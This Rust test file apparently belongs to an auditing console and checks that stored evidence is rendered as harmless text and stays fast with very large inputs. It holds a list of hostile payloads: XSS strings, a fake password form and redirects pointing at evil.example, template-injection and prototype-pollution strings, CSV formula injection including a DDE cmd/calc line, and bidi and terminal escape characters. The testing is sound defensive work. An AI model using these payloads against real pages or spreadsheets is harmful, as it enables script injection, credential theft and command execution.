//! Evidence that attacks the page: script, markup, formulas, characters that turn text around, and rows without end.

use clock::Clock;
use serde_json::{Value, json};
use tests::{Browser, Look};

use crate::evidence::{self, Till};

/// What the targets put into rows. Whatever of it were executed would set `window.evil`, or load something.
const HOSTILE: [&str; 16] = [
    "<script>window.evil=1</script>",
    "<img src=x onerror=\"window.evil=1\">",
    "\"><svg onload=window.evil=1>",
    "</td></table></main><h1>fake</h1><form action=https://evil.example><input name=password>",
    "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe srcdoc=\"<script>parent.evil=1</script>\"></iframe>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "javascript:window.evil=1//",
    "{{constructor.constructor('window.evil=1')()}} ${window.evil=1} <%= 7*7 %>",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "\t=1+1",
    "exe.\u{202e}gpj\u{2066}\u{200b}\u{feff}x",
    "bell\u{7}\u{1b}[31mred\u{1b}]8;;https://evil.example\u{7}\u{9b}0m",
    "\u{2028}line\u{2029}line\u{85}",
];

fn nothing_happened(browser: &Browser) {
    let seen = browser.eval(
        "[window.evil ?? null, document.querySelectorAll('[data-open-evidence] :is(script, img, svg, style, link, iframe, base, meta, h1, input[name=password], form[action], a)').length,
          document.title.includes('Proctor'), performance.getEntriesByType('resource').filter((it) => new URL(it.name).origin !== location.origin).length]",
    );
    assert_eq!(seen, json!([null, 0, true, 0]));
    assert!(browser.path().starts_with("/drilldowns/") || browser.path().starts_with("/runs/"), "{}", browser.path());
}

#[test]
fn evidence_is_text_whatever_stands_in_it() {
    let till = Till::with(|till| {
        for (id, note) in HOSTILE.iter().enumerate() {
            till.execute("insert into notes values (?1, ?2, ?2)", rusqlite::params![id as i64, note]).unwrap();
        }
        till.execute_batch(
            "create view v as select 1; alter table notes add column \"<b onclick=evil()>\" text default '<i>';
             alter table notes add column __proto__ text default 'polluted'; alter table notes add column constructor text default 'polluted'",
        )
        .unwrap();
    });
    std::fs::write(till.beside("accounts"), HOSTILE.join("\n")).unwrap();
    let run = till.run();
    let browser = till.console.browser(&till.grace());
    till.auditor(&browser, &run);
    evidence::ask(&browser, &run, &[&till.item(&run, "notes"), &till.item(&run, "accounts")], "");
    evidence::is_opened(&browser);
    nothing_happened(&browser);
    browser.is_accessible();
    assert_eq!(browser.count("table.evidence tbody tr"), HOSTILE.len());
    let cells = browser
        .eval("[...document.querySelectorAll('table.evidence tbody tr')].map((row) => row.textContent).join('\\n')");
    let cells = cells.as_str().unwrap();
    assert!(
        cells.contains("<script>window.evil=1</script>") && cells.contains("=HYPERLINK"),
        "markup is shown as it is"
    );
    for turned in ['\u{202e}', '\u{2066}', '\u{7}', '\u{1b}', '\u{9b}', '\u{200b}', '\u{2028}'] {
        assert!(!cells.contains(turned), "{:x} reaches the page as it is", u32::from(turned));
    }
    assert_eq!(browser.eval("({}).polluted ?? Object.prototype.polluted ?? null"), Value::Null);
    for mode in ["Text", "Hex"] {
        browser.press(mode);
        nothing_happened(&browser);
    }
    browser.press("Save as CSV");
    let csv = String::from_utf8(browser.saved(".csv")).unwrap();
    for line in csv.split("\r\n") {
        for cell in line.split(',') {
            let begins = cell.trim_start_matches('"').chars().next();
            assert!(!matches!(begins, Some('=' | '+' | '@' | '\t')), "a formula: {cell}");
        }
    }
}

#[test]
fn a_row_of_ten_megabytes_and_a_hundred_thousand_rows_leave_the_page_quick() {
    let till = Till::with(|till| {
        till.execute_batch(
            "insert into notes with recursive n(i) as (select 1 union all select i + 1 from n where i < 100000)
             select i, 'ada', 'note ' || i from n",
        )
        .unwrap();
    });
    let line: String = "0123456789abcde\n".repeat(640 * 1024);
    std::fs::write(till.beside("accounts"), line).unwrap();
    let run = till.run();
    let browser = till.console.browser_with(&till.grace(), Look::default());
    till.auditor(&browser, &run);
    let clock = clock::SystemClock::new();
    for (step, sees) in [("notes", "Rows 1 to 100 of 100,000"), ("accounts", "bytes 0 to")] {
        let begun = clock.monotonic_ms();
        evidence::ask(&browser, &run, &[&till.item(&run, step)], "");
        evidence::is_opened(&browser);
        let took = clock.monotonic_ms() - begun;
        browser.says(sees);
        assert!(took < 45_000, "{step} took {took} ms");
        let elements = browser.eval("document.querySelectorAll('*').length").as_u64().unwrap();
        assert!(elements < 4_000, "{step}: {elements} elements");
        // How long the page does not listen while somebody leafs through it.
        let longest = browser.run(
            "let longest = 0; const watch = new PerformanceObserver((all) => { for (const one of all.getEntries()) longest = Math.max(longest, one.duration); });
             watch.observe({ entryTypes: ['longtask'] });
             for (const name of ['Last', 'Previous', 'First', 'Next']) {
               document.querySelector(`[data-go='${name}']`)?.click();
               await new Promise((done) => requestAnimationFrame(() => setTimeout(done, 20)));
             }
             return longest;",
            json!([]),
        );
        assert!(longest.as_f64().unwrap() < 500.0, "{step}: {longest} ms");
    }
    nothing_happened(&browser);
}
